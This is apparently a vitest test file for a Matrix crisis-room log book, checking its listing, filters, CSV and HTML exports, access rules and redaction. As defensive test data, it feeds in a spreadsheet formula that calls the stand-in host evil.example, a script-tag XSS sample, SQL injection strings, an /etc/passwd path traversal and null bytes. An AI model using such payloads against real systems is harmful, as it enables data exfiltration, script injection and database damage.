import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { logbookContent } from '../../../src/crisis/logbook/logbook-entry.ts';
import { enc, registerUser, type TestUser } from '../../support/client.ts';
import { closeAllTestServers, startTestServer, type TestServer } from '../../support/server.ts';

const V1 = '/_tocsin/v1';
const C = '/_matrix/client/v3';
let txn = 0;

/** RFC 4180 reader, for checking the export the way a spreadsheet reads it. */
function parseCsv(text: string, delimiter = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === delimiter) {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

async function send(u: TestUser, roomId: string, content: Record<string, unknown>): Promise<string> {
  const r = await u.api.put(`${C}/rooms/${enc(roomId)}/send/m.room.message/lb${++txn}`, content);
  expect(r.status, JSON.stringify(r.body)).toBe(200);
  return r.body.event_id as string;
}

async function createRoom(u: TestUser, body: Record<string, unknown>): Promise<string> {
  const r = await u.api.post(`${C}/createRoom`, body);
  expect(r.status, JSON.stringify(r.body)).toBe(200);
  return r.body.room_id as string;
}

describe('the log book (main courante) of a crisis room', () => {
  let server: TestServer;
  let alice: TestUser;
  let bob: TestUser;
  let carol: TestUser;
  let dave: TestUser;
  let room: string;
  let other: string;
  const occurred = Date.UTC(2026, 10, 25, 13, 5, 0);

  beforeAll(async () => {
    server = await startTestServer();
    alice = await registerUser(server.url, 'lb-alice');
    bob = await registerUser(server.url, 'lb-bob');
    carol = await registerUser(server.url, 'lb-carol');
    dave = await registerUser(server.url, 'lb-dave');
    room = await createRoom(alice, { preset: 'public_chat', name: 'Cellule <crise> & "Nord"' });
    other = await createRoom(carol, { preset: 'public_chat', name: 'Autre salon' });
    expect((await bob.api.post(`${C}/rooms/${enc(room)}/join`, {})).status).toBe(200);
    await alice.api.put(`${C}/rooms/${enc(room)}/state/m.room.member/${enc(alice.userId)}`, { membership: 'join', displayname: 'Alice <b>Martin</b>' });

    await send(alice, room, logbookContent({ text: 'Cellule de crise activée', tag: 'Décision' }));
    await send(bob, room, logbookContent({ text: 'Appel du préfet reçu', tag: 'message', occurred_at: occurred }, '14:05'));
    await send(alice, room, { msgtype: 'm.text', body: 'a chat message, not an entry' });
    // Typed in a stock client: the msgtype only, the text in body.
    await send(bob, room, { msgtype: 'org.tocsin.logbook.entry', body: 'Point de situation (Element)' });
    // Hostile: formulas, markup, quotes and line breaks, a tag of markup, a time of the wrong type.
    await send(bob, room, {
      msgtype: 'org.tocsin.logbook.entry',
      body: 'x',
      'org.tocsin.logbook': { text: '=HYPERLINK("http://evil.example/?"&A1,"clic")', tag: '<b>', occurred_at: 'yesterday' },
    });
    await send(bob, room, logbookContent({ text: '<script>alert(1)</script> "quoted, with comma"\nsecond line', tag: 'incident' }));
    await send(bob, room, logbookContent({ text: '  -2+3', tag: 'incident' }));
    await send(bob, room, logbookContent({ text: '@SUM(1,2)' }));
    await send(carol, other, logbookContent({ text: 'secret of another room', tag: 'décision' }));
  });
  afterAll(closeAllTestServers);

  it('lists the entries in the order they happened, with author, tag and times', async () => {
    const r = await bob.api.get(`${V1}/rooms/${enc(room)}/logbook`);
    expect(r.status).toBe(200);
    expect(r.body.room_name).toBe('Cellule <crise> & "Nord"');
    const texts = r.body.entries.map((e: { text: string }) => e.text);
    expect(texts).not.toContain('a chat message, not an entry');
    expect(texts).not.toContain('secret of another room');
    expect(r.body.total).toBe(7);
    // The entry that happened earlier (occurred_at) comes first.
    expect(r.body.entries[0]).toMatchObject({ text: 'Appel du préfet reçu', tag: 'message', author: bob.userId, occurred_at: occurred, at: occurred });
    expect(r.body.entries[0].recorded_at).toBeGreaterThan(occurred);
    expect(r.body.entries[1]).toMatchObject({ text: 'Cellule de crise activée', tag: 'décision', author: alice.userId, author_name: 'Alice <b>Martin</b>', occurred_at: null });
    expect(r.body.entries[1].at).toBe(r.body.entries[1].recorded_at);
    expect(texts).toContain('Point de situation (Element)');
    const hostile = r.body.entries.find((e: { text: string }) => e.text.startsWith('=HYPERLINK'));
    expect(hostile).toMatchObject({ tag: null, occurred_at: null });
  });

  it('filters by author, tag, text and time range', async () => {
    const get = async (q: string) => (await bob.api.get(`${V1}/rooms/${enc(room)}/logbook?${q}`)).body.entries.map((e: { text: string }) => e.text);
    expect(await get(`author=${enc(alice.userId)}`)).toEqual(['Cellule de crise activée']);
    expect(await get('tag=D%C3%A9cision')).toEqual(['Cellule de crise activée']);
    expect((await get('tag=incident')).length).toBe(2);
    expect(await get('q=PR%C3%89FET')).toEqual(['Appel du préfet reçu']);
    expect(await get(`from=${occurred - 1000}&to=${occurred + 1000}`)).toEqual(['Appel du préfet reçu']);
    expect(await get(`to=${new Date(occurred + 1000).toISOString()}`)).toEqual(['Appel du préfet reçu']);
    expect((await get(`from=${occurred + 1000}`)).length).toBe(6);
    expect(await get(`author=${enc(carol.userId)}`)).toEqual([]);
    const limited = await bob.api.get(`${V1}/rooms/${enc(room)}/logbook?limit=2`);
    expect(limited.body.entries.length).toBe(2);
    expect(limited.body).toMatchObject({ total: 7, limited: true });
  });

  it('exports CSV that a spreadsheet reads as plain text, formulas neutralised', async () => {
    const r = await fetch(`${server.url}${V1}/rooms/${enc(room)}/logbook?format=csv&tz=Europe/Paris&lang=fr`, { headers: { authorization: `Bearer ${bob.token}` } });
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="logbook-[A-Za-z0-9_-]+\.csv"$/);
    const bytes = Buffer.from(await r.arrayBuffer());
    // The UTF-8 byte-order mark first (Excel reads accents right), then the rows.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.subarray(3).toString('utf8'));
    expect(rows[0]).toEqual(['Heure', 'Enregistré à', 'Auteur', 'Nom', 'Catégorie', 'Texte', 'Événement']);
    expect(rows.length).toBe(8);
    for (const row of rows) expect(row.length).toBe(7);
    // 14:05 Paris time (UTC+1 in November) for 13:05 UTC.
    expect(rows[1]!.slice(0, 1)).toEqual(['2026-11-25T14:05:00+01:00']);
    expect(rows[1]![5]).toBe('Appel du préfet reçu');
    const cells = rows.slice(1).map((row) => row[5]!);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"clic")`);
    expect(cells).toContain('<script>alert(1)</script> "quoted, with comma"\nsecond line');
    expect(cells).toContain("'  -2+3");
    expect(cells).toContain("'@SUM(1,2)");
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@]/);
    const names = rows.slice(1).map((row) => row[3]);
    expect(names).toContain('Alice <b>Martin</b>');

    const semi = await bob.api.get(`${V1}/rooms/${enc(room)}/logbook?format=csv&delimiter=semicolon&tag=incident`);
    const semiRows = parseCsv(semi.body as string, ';');
    expect(semiRows.length).toBe(3);
    expect(semiRows[0]![0]).toBe('Time');
  });

  it('exports a self-contained, printable HTML page with everything escaped', async () => {
    const r = await bob.api.get(`${V1}/rooms/${enc(room)}/logbook?format=html&lang=en&tz=UTC&q=script`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(r.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(r.headers.get('content-security-policy')).not.toContain('script-src');
    const html = r.body as string;
    expect(html).toContain('<h1>Log book · Cellule &lt;crise&gt; &amp; &quot;Nord&quot;</h1>');
    expect(html).toContain(`by ${bob.userId}`);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &quot;quoted, with comma&quot;');
    expect(html).not.toContain('<script');
    expect(html).not.toMatch(/<(link|img|iframe)\b|src=|href=/);
    expect(html).toContain('text “script”');
    expect(html).toContain('1 entry');
    const all = (await bob.api.get(`${V1}/rooms/${enc(room)}/logbook?format=html`)).body as string;
    expect(all).toContain('Alice &lt;b&gt;Martin&lt;/b&gt;');
    expect(all).toContain('2026-11-25 13:05:00');
  });

  it('is refused to people outside the room, and shows no other room', async () => {
    const r = await carol.api.get(`${V1}/rooms/${enc(room)}/logbook?format=csv`);
    expect(r.status).toBe(403);
    expect(r.body.errcode).toBe('M_FORBIDDEN');
    const unknown = await bob.api.get(`${V1}/rooms/${enc('!nowhere:localhost')}/logbook`);
    expect(unknown.status).toBe(403);
    expect((await bob.api.get(`${V1}/rooms/${enc(other)}/logbook`)).status).toBe(403);
    expect((await carol.api.get(`${V1}/rooms/${enc(other)}/logbook`)).body.entries.map((e: { text: string }) => e.text)).toEqual(['secret of another room']);
    expect((await bob.api.as(undefined).get(`${V1}/rooms/${enc(room)}/logbook`)).body.errcode).toBe('M_MISSING_TOKEN');
    // Hostile room ids and filter values: a Matrix error, never a 500.
    const hostile = [`'; DROP TABLE events; --`, '../../../etc/passwd', 'a\u0000b', 'a'.repeat(5000), '%', `${room}' OR '1'='1`].map(enc);
    for (const id of [...hostile, '%ED%A0%80', '%']) {
      const r = await bob.api.get(`${V1}/rooms/${id}/logbook?format=csv`);
      expect([400, 403, 404], id.slice(0, 40)).toContain(r.status);
      expect(r.body.errcode, id.slice(0, 40)).toMatch(/^M_/);
    }
    for (const q of ['q=a%00b', 'author=%40a%00b%3Alocalhost', 'tag=a%00', 'q=%ED%A0%80', 'tz=%00']) {
      const r = await bob.api.get(`${V1}/rooms/${enc(room)}/logbook?${q}`);
      expect([200, 400], q).toContain(r.status);
      if (r.status === 400) expect(r.body.errcode, q).toBe('M_INVALID_PARAM');
    }
  });

  it('follows the room history visibility: a late joiner of a "joined" room sees entries from their join', async () => {
    const closed = await createRoom(alice, { preset: 'public_chat', initial_state: [{ type: 'm.room.history_visibility', state_key: '', content: { history_visibility: 'joined' } }] });
    await send(alice, closed, logbookContent({ text: 'before dave' }));
    expect((await dave.api.post(`${C}/rooms/${enc(closed)}/join`, {})).status).toBe(200);
    await send(alice, closed, logbookContent({ text: 'after dave joined' }));
    const seen = await dave.api.get(`${V1}/rooms/${enc(closed)}/logbook`);
    expect(seen.body.entries.map((e: { text: string }) => e.text)).toEqual(['after dave joined']);
    // Once he has left, he keeps what he saw and nothing after.
    expect((await dave.api.post(`${C}/rooms/${enc(closed)}/leave`, {})).status).toBe(200);
    await send(alice, closed, logbookContent({ text: 'after dave left' }));
    const after = await dave.api.get(`${V1}/rooms/${enc(closed)}/logbook`);
    expect(after.body.entries.map((e: { text: string }) => e.text)).toEqual(['after dave joined']);
    expect((await alice.api.get(`${V1}/rooms/${enc(closed)}/logbook`)).body.total).toBe(3);
  });

  it('drops redacted entries', async () => {
    const id = await send(alice, room, logbookContent({ text: 'typed in the wrong room' }));
    expect((await alice.api.get(`${V1}/rooms/${enc(room)}/logbook?q=wrong%20room`)).body.total).toBe(1);
    const red = await alice.api.put(`${C}/rooms/${enc(room)}/redact/${enc(id)}/red1`, { reason: 'wrong room' });
    expect(red.status).toBe(200);
    expect((await alice.api.get(`${V1}/rooms/${enc(room)}/logbook?q=wrong%20room`)).body.total).toBe(0);
  });

  it('answers bad parameters with M_INVALID_PARAM', async () => {
    for (const q of ['format=pdf', 'from=yesterday', 'from=2&to=1', 'author=bob', 'tag=%3Cb%3E', `q=${'x'.repeat(201)}`, 'tz=Mars/Olympus', 'lang=de', 'delimiter=tab', 'limit=0', 'limit=-1', 'to=2026-13-45T99:99']) {
      const r = await bob.api.get(`${V1}/rooms/${enc(room)}/logbook?${q}`);
      expect(r.status, q).toBe(400);
      expect(r.body.errcode, q).toBe('M_INVALID_PARAM');
    }
  });
});
